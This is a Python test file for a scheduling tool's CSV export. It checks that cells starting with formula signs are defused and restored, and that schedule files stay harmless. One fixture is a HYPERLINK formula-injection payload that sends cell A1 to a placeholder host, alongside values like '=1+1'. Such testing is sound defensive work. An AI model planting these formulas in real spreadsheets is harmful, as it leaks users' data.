"""No text that rotasi writes as CSV is a formula, and every text comes back as it was."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from helpers import policy, roster
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rotasi import Roster, Schedule, solve
from rotasi.tables.csv_files import write_csv
from rotasi.tables.csv_injection import disarm, restore
from rotasi.tables.readers import read_frame

FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'
SIGNS = "=+-@\t\r\n＝＋－＠"
#: Texts that are mostly made of what matters here.
TEXTS = st.text(st.sampled_from(SIGNS + "';,\"aé 1"), max_size=6) | st.text(
    st.characters(exclude_characters="\0", codec="utf-8"), max_size=6
)
QUICK = settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])


def cells_of(path: Path) -> list[list[str]]:
    """Cells as a program that knows nothing of rotasi reads them."""
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


class TestTexts:
    @pytest.mark.parametrize("sign", SIGNS)
    def test_no_sign_begins_a_cell(self, sign: str) -> None:
        assert disarm(f"{sign}1+1") == f"'{sign}1+1"

    @pytest.mark.parametrize("text", ["", "198503152010011001", "'Aisyiyah", "A-1", "a=b", "é@"])
    def test_others_stay_as_they_are(self, text: str) -> None:
        assert disarm(text) == restore(text) == text

    def test_a_semicolon_begins_a_cell_in_indonesian_excel(self) -> None:
        assert disarm("hukum;=1+1") == "hukum;'=1+1"

    @given(TEXTS)
    def test_every_text_comes_back(self, text: str) -> None:
        assert restore(disarm(text)) == text

    @given(TEXTS)
    def test_nothing_is_armed_afterwards(self, text: str) -> None:
        assert not re.search(rf"(?:\A|[;\r\n])[{re.escape(SIGNS)}]", disarm(text))

    @given(TEXTS, TEXTS)
    def test_two_texts_never_become_one(self, one: str, other: str) -> None:
        assert (disarm(one) == disarm(other)) == (one == other)


class TestFiles:
    @QUICK
    @given(st.lists(TEXTS, min_size=1, max_size=4), TEXTS.filter(str.strip))
    def test_a_table_comes_back(self, tmp_path: Path, texts: list[str], heading: str) -> None:
        columns = ["key", heading.strip()]
        rows = [[str(number), text] for number, text in enumerate(texts)]
        written = pd.DataFrame(rows, columns=columns, dtype=str)
        write_csv(written, tmp_path / "a.csv")
        assert read_frame(tmp_path / "a.csv").to_numpy().tolist() == rows
        assert read_frame(tmp_path / "a.csv").columns.tolist() == columns

    def test_numbers_stay_numbers(self, tmp_path: Path) -> None:
        frame = pd.DataFrame({"a": [-1, 2], "b": [-0.5, None], "c": pd.Series([-3, "-3"])})
        write_csv(frame, tmp_path / "a.csv")
        assert cells_of(tmp_path / "a.csv") == [
            ["a", "b", "c"],
            ["-1", "-0.5", "-3"],
            ["2", "", "'-3"],
        ]


class TestSchedules:
    def given(self) -> Roster:
        who = pd.DataFrame(
            {
                "nip": ["=1+1", "198503152010011001", "'=1+1"],
                "opd": ["@Dinas", "-", "＋Dinas"],
                "name": [FORMULA, "'Aisyiyah", "- Siti"],
                "skills": ["hukum;=2", "a;b", ""],
                "=kolom": ["+62811", "x", "-7"],
            }
        )
        wishes = [{"nip": "=1+1", "weekday": "Mon", "weight": -10}]
        return roster(who, leave=[("=1+1", 1, 1)], wishes=wishes)

    def test_every_file_of_a_schedule_is_harmless(self, tmp_path: Path) -> None:
        self.solved().write(tmp_path / "out")
        files = list((tmp_path / "out").rglob("*.csv"))
        assert len(files) >= 9
        for path in files:
            for row in cells_of(path):
                assert not [
                    cell for cell in row if cell and cell[0] in SIGNS and not is_number(cell)
                ]

    def test_and_comes_back(self, tmp_path: Path) -> None:
        schedule = self.solved()
        schedule.write(tmp_path / "out")
        again = Schedule.read(tmp_path / "out")
        assert again.status == schedule.status == "OPTIMAL"
        assert again.roster.hash() == schedule.roster.hash()
        pd.testing.assert_frame_equal(again.to_frame(), schedule.to_frame())
        pd.testing.assert_frame_equal(again.groups(), schedule.groups())

    def test_the_long_form_too(self, tmp_path: Path) -> None:
        self.solved().to_csv(tmp_path / "a.csv")
        head, *rows = cells_of(tmp_path / "a.csv")
        assert head == ["nip", "opd", "date", "status", "schema"]
        assert {(row[0], row[1]) for row in rows} == {
            ("'=1+1", "'@Dinas"), ("198503152010011001", "'-"), ("''=1+1", "'+Dinas"),
        }  # fmt: skip

    def solved(self) -> Schedule:
        given = self.given()
        rules = [{"kind": "rotation_groups", "groups": 2}, {"kind": "max_remote", "count": 1}]
        before = pd.DataFrame({"nip": ["=1+1"], "date": ["2026-01-02"], "status": ["WFH"]})
        return solve(given, policy(*rules), previous=before, workers=1)


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None
